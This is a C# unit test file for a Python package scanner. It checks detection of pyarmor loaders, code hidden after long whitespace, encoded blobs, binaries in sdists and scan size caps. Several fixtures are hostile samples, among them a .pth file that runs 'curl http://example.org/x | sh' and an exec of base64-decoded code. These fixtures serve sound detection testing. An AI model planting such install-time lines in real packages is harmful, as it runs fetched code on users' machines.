using System.Text;
using Bulwark.Core.Moderation.Scanning;
using static Bulwark.Core.Tests.Moderation.ScanTestKit;

namespace Bulwark.Core.Tests.Moderation;

/// <summary>Obfuscator marks, binaries in sdists, and the caps that bound the scan.</summary>
public class ObfuscationAndArchiveTests
{
    private static readonly byte[] Elf = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0];

    [Fact]
    public void Pyarmor_loader_is_flagged() =>
        Has(Init("from .pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x50\\x59')\n"), "pyarmor");

    [Fact]
    public void A_module_named_armor_is_not_pyarmor() =>
        HasNot(Library("def armor(x):\n    return x\n"), "pyarmor");

    [Fact]
    public void Code_hidden_after_hundreds_of_spaces_is_flagged() =>
        Has(SetupPy("import os" + new string(' ', 250) + ";__import__('os').system('id')\n"), "hidden-code");

    [Fact]
    public void Aligned_comment_far_right_is_not_hidden_code() =>
        HasNot(Library("x = 1" + new string(' ', 150) + "# aligned note\n"), "hidden-code");

    [Fact]
    public void Huge_encoded_literal_is_an_encoded_blob() =>
        Has(Library($"DATA = '{new string('A', 30_000)}'\n"), "encoded-blob");

    [Fact]
    public void Long_prose_literal_is_not() =>
        HasNot(Library($"TEXT = '{string.Concat(Enumerable.Repeat("lorem ipsum ", 3000))}'\n"), "encoded-blob");

    [Fact]
    public void Long_line_of_escaped_bytes_is_flagged() =>
        Has(Library($"B = b'{string.Concat(Enumerable.Repeat("\\x41", 2000))}'\n"), "escaped-bytes");

    [Fact]
    public void Unreadable_identifiers_in_numbers_are_flagged() =>
        Has(Library(string.Join('\n', Enumerable.Range(0, 12).Select(i => $"{new string('I', i + 2)}l{new string('l', 3)}I = {i}")) + "\n"), "obfuscated-names");

    [Fact]
    public void Ordinary_dunder_names_are_not() =>
        HasNot(Library("__all__ = []\n__version__ = '1'\n_private = 2\nclass X:\n    def __init__(self):\n        self.__x = 1\n"), "obfuscated-names");

    [Fact]
    public void Executable_in_an_sdist_is_flagged()
    {
        var files = SampleArchives.Files(("setup.py", "from setuptools import setup\nsetup()\n"));
        files["bin/helper"] = Elf;
        Has(new DistributionScanner().Scan(new MemoryStream(SampleArchives.Sdist("pkg", files)), "pkg-1.0.tar.gz"), "binary-in-sdist");
    }

    [Fact]
    public void Prebuilt_extension_module_in_an_sdist_is_only_recorded()
    {
        var files = SampleArchives.Files(("setup.py", "from setuptools import setup\nsetup()\n"));
        files["pkg/_speedups.so"] = Elf;
        var report = new DistributionScanner().Scan(new MemoryStream(SampleArchives.Sdist("pkg", files)), "pkg-1.0.tar.gz");
        Has(report, "extension-in-sdist");
        Clean(report);
    }

    [Fact]
    public void Executable_in_a_wheel_is_normal()
    {
        var files = SampleArchives.Files(("pkg/__init__.py", ""));
        files["pkg/_native.so"] = Elf;
        Clean(new DistributionScanner().Scan(new MemoryStream(SampleArchives.Wheel("pkg", files)), "pkg-1.0-py3-none-any.whl"));
    }

    [Fact]
    public void Member_larger_than_the_cap_is_scanned_up_to_it_and_reported()
    {
        var scanner = new DistributionScanner(new ScanOptions { MaxFileBytes = 4096 });
        var source = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" + new string('#', 10_000) + "\n";
        var report = scanner.Scan(new MemoryStream(SampleArchives.Wheel("pkg", SampleArchives.Files(("pkg/__init__.py", source)))), "pkg-1.0-py3-none-any.whl");
        Has(report, "file-truncated");
        Has(report, "exec-encoded-payload");
    }

    [Fact]
    public void Scan_stops_at_the_total_byte_budget_and_says_so()
    {
        var scanner = new DistributionScanner(new ScanOptions { MaxTotalBytes = 2048 });
        var files = Enumerable.Range(0, 20).Select(i => ($"pkg/m{i}.py", new string('x', 500))).ToArray();
        Has(scanner.Scan(new MemoryStream(SampleArchives.Wheel("pkg", SampleArchives.Files(files))), "pkg-1.0-py3-none-any.whl"), "scan-incomplete");
    }

    [Fact]
    public void Install_time_code_is_read_before_the_budget_runs_out()
    {
        var scanner = new DistributionScanner(new ScanOptions { MaxTotalBytes = 4096 });
        var files = Enumerable.Range(0, 40).Select(i => ($"pkg/a{i:00}.py", new string('#', 500))).Append(("evil.pth", "import os;os.system('curl http://example.org/x | sh')\n")).ToArray();
        Has(scanner.Scan(new MemoryStream(SampleArchives.Wheel("pkg", SampleArchives.Files(files))), "pkg-1.0-py3-none-any.whl"), "shell-downloader");
    }

    [Fact]
    public void Tar_stream_inflating_past_the_cap_is_stopped()
    {
        var scanner = new DistributionScanner(new ScanOptions { MaxInflatedBytes = 64 * 1024 });
        var files = new Dictionary<string, byte[]> { ["setup.py"] = "x = 1\n"u8.ToArray(), ["data.bin"] = new byte[1024 * 1024] };
        Has(scanner.Scan(new MemoryStream(SampleArchives.Sdist("pkg", files)), "pkg-1.0.tar.gz"), "scan-incomplete");
    }

    [Fact]
    public void Token_cap_bounds_a_file_of_endless_tokens()
    {
        var scanner = new DistributionScanner(new ScanOptions { MaxTokensPerFile = 1000 });
        var source = string.Concat(Enumerable.Repeat("a = b + c\n", 5000));
        Has(scanner.Scan(new MemoryStream(Encoding.UTF8.GetBytes(source)), "module.py"), "file-truncated");
    }

    [Fact]
    public void Corrupt_archive_is_reported_not_thrown() =>
        Has(new DistributionScanner().Scan(new MemoryStream([0x1F, 0x8B, 8, 0, 1, 2, 3]), "pkg-1.0.tar.gz"), "scan-incomplete");
}
